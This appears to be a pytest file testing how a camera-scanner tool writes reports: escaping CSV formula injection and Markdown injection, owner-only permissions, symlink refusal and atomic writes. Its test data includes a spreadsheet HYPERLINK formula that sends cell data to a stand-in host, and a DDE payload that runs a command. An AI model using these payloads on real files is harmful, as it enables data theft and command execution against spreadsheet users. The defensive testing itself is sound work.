"""Reports from untrusted device strings: CSV cells never run as formulas, Markdown tables never break,
and the files are written whole, owner-only and never through a planted symlink (issue 10)."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from scanner import report
from scanner.errors import InputError
from scanner.inventory.records import Device, Inventory, ScanError, ScanInfo, SiteInfo
from scanner.inventory.serialise import to_dict
from tests.inventory.schema import valid_inventory

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
           "\tTAB", "\rCR", "a|b", "line1\nline2", "back\\slash|pipe", "x\\|y", "<b>bold</b> *em* [l](u)"]


def device(ip: str = "198.18.0.10", **kw: object) -> Device:
    """A surveillance device with the given fields (the rest plain)."""
    base: dict[str, object] = dict(ip=ip, mac=None, hostnames=(), open_ports=(80,), vendor="hikvision",
                                   brand="hikvision", model="DS-2CD2042WD-I", firmware="V5.4.5", serial=None,
                                   category="camera", confidence=0.9, concerns=(), advisories=(), evidence=(),
                                   discovered_by=("http",))
    base.update(kw)
    return Device(**base)  # type: ignore[arg-type]


def inventory(*devices: Device, complete: bool = True, errors: tuple[ScanError, ...] = ()) -> Inventory:
    """An inventory holding devices."""
    info = ScanInfo("2026-12-07T00:00:00+00:00", "2026-12-07T00:01:00+00:00", ("198.18.0.0/24",), (), ("http",),
                    False, "test", "test", {"devices": len(devices)}, errors, complete)
    return Inventory(SiteInfo("Example | Road\nStation"), info, tuple(devices))


def hostile_inventory() -> Inventory:
    """One device per hostile string, in every device-controlled text field."""
    return inventory(*(device(f"198.18.0.{10 + i}", model=s, firmware=s, serial=s, hostnames=(s,),
                              vendor=s, brand=s, survey="external") for i, s in enumerate(HOSTILE)))


# --- CSV -------------------------------------------------------------------------------------------

def test_csv_cells_never_start_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(report.to_csv(hostile_inventory()))))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE)
    for s, row in zip(HOSTILE, body, strict=True):
        cells = dict(zip(header, row, strict=True))
        for col in ("model", "firmware", "serial", "hostnames", "vendor", "brand"):
            cell = cells[col]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
            # the text is kept, only made inert: a leading quote where a spreadsheet would see a formula
            assert cell == ("'" + s if s[0] in "=+-@\t\r" else s), (col, cell)


def test_csv_keeps_plain_values_as_they_are() -> None:
    row = list(csv.reader(io.StringIO(report.to_csv(inventory(device())))))[1]
    assert row[:6] == ["198.18.0.10", "", "hikvision", "hikvision", "DS-2CD2042WD-I", "V5.4.5"]


# --- Markdown --------------------------------------------------------------------------------------

def md_cells(row: str) -> list[str]:
    """Split a Markdown table row at its unescaped pipes and undo the backslash escapes (GFM rules)."""
    assert row.startswith("| ") and row.endswith(" |"), row
    cells, cur, i = [], "", 1
    while i < len(row) - 1:
        c = row[i]
        if c == "\\" and i + 1 < len(row):
            cur += row[i + 1]
            i += 2
            continue
        if c == "|":
            cells.append(cur.strip())
            cur = ""
        else:
            cur += c
        i += 1
    cells.append(cur.strip())
    return cells


def test_markdown_table_rows_stay_whole_and_keep_the_text() -> None:
    md = report.to_markdown(hostile_inventory())
    lines = md.splitlines()
    head = lines.index("| ip | maker | brand | model | firmware | category | survey | confidence | concerns "
                       "| advisories | behind recorder | cameras behind |")
    rows = lines[head + 2:head + 2 + len(HOSTILE)]
    assert all(r.startswith("| 198.18.0.") for r in rows), "a device string broke the table"
    for s, row in zip(HOSTILE, rows, strict=True):
        cells = md_cells(row)
        assert len(cells) == 12, row
        unescaped = " ".join(s.splitlines()).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert cells[1] == cells[2] == cells[3] == cells[4] == unescaped.strip(), row
    assert lines[0] == "# camscan inventory: Example \\| Road Station"


def test_markdown_errors_cannot_inject_lines() -> None:
    md = report.to_markdown(inventory(device(), errors=(ScanError("wsd", "198.18.0.9", "XAddr x\n# pwned |"),)))
    assert "\n# pwned" not in md
    assert "- wsd 198.18.0.9: XAddr x \\# pwned \\|" in md


def test_markdown_says_when_the_scan_is_incomplete() -> None:
    assert "Incomplete" in report.to_markdown(inventory(device(), complete=False))
    assert "Incomplete" not in report.to_markdown(inventory(device()))


# --- files -----------------------------------------------------------------------------------------

def test_files_are_owner_only_and_the_new_folder_private(tmp_path: Path) -> None:
    out = tmp_path / "new" / "out"
    written = report.write(inventory(device()), out, ["json", "csv", "md"])
    assert [p.name for p in written] == ["inventory.json", "inventory.csv", "inventory.md"]
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    for p in written:
        assert stat.S_IMODE(p.stat().st_mode) == 0o600, p
    assert sorted(os.listdir(out)) == ["inventory.csv", "inventory.json", "inventory.md"], "temp files left"
    assert valid_inventory(out / "inventory.json")["scan"]["complete"] is True


def test_rewriting_an_existing_world_readable_file_leaves_it_owner_only(tmp_path: Path) -> None:
    p = tmp_path / "inventory.json"
    p.write_text("{}")
    p.chmod(0o644)
    report.write(inventory(device()), tmp_path, ["json"])
    assert stat.S_IMODE(p.stat().st_mode) == 0o600


@pytest.mark.parametrize("name", ["inventory.json", "inventory.csv", "inventory.md"])
def test_a_planted_symlink_is_never_followed(tmp_path: Path, name: str) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    out = tmp_path / "out"
    out.mkdir()
    (out / name).symlink_to(victim)
    with pytest.raises(InputError, match="symlink"):
        report.check_out(out, ["json", "csv", "md"])
    with pytest.raises(InputError, match=f"{name} is a symlink"):
        report.write(inventory(device()), out, ["json", "csv", "md"])
    assert victim.read_text() == "precious\n"
    assert (out / name).is_symlink()


def test_a_dangling_symlink_is_not_followed_either(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.json"
    (tmp_path / "inventory.json").symlink_to(target)
    with pytest.raises(InputError):
        report.write(inventory(device()), tmp_path, ["json"])
    assert not target.exists()


def test_a_crash_between_write_and_rename_keeps_the_old_file(tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    old = report.write(inventory(device()), tmp_path, ["json"])[0].read_text()

    def crash(src: object, dst: object) -> None:
        raise KeyboardInterrupt   # the process dies after writing the temp file, before the rename

    monkeypatch.setattr(os, "replace", crash)
    with pytest.raises(KeyboardInterrupt):
        report.write(inventory(device(), device("198.18.0.11")), tmp_path, ["json"])
    assert (tmp_path / "inventory.json").read_text() == old
    assert os.listdir(tmp_path) == ["inventory.json"]


_WRITER = """
import sys
from pathlib import Path
from scanner import report
from scanner.inventory.serialise import to_json
from tests.report.test_outputs import device, inventory
texts = [to_json(inventory(*(device(f"198.18.1.{i + 1}", model=f"{tag}-{i}" * 2000) for i in range(200))))
         for tag in ("OLD", "NEW")]
print("ready", flush=True)
n = 0
while True:
    report.write_atomic(Path(sys.argv[1]) / "inventory.json", texts[n % 2])
    n += 1
"""


def test_a_writer_killed_part_way_leaves_the_old_or_the_new_file_never_a_broken_one(tmp_path: Path) -> None:
    # the in-place write this replaced left a 0-byte or torn file on 12 kills out of 12 here
    repo = Path(__file__).resolve().parents[2]
    seen = set()
    for i in range(12):
        p = subprocess.Popen([sys.executable, "-c", _WRITER, str(tmp_path)], cwd=repo, stdout=subprocess.PIPE,
                             text=True)
        assert p.stdout is not None and p.stdout.readline() == "ready\n"
        time.sleep(0.1 + 0.023 * i)   # land the kill at a different point of the write each time
        p.send_signal(signal.SIGKILL)
        p.wait()
        p.stdout.close()
        doc = json.loads((tmp_path / "inventory.json").read_text(encoding="utf-8"))   # never torn
        assert len(doc["devices"]) == 200
        seen.add(doc["devices"][0]["model"][:3])
    assert seen <= {"OLD", "NEW"}


def test_the_inventory_document_records_completeness() -> None:
    assert to_dict(inventory(device()))["scan"]["complete"] is True
    assert to_dict(inventory(device(), complete=False))["scan"]["complete"] is False
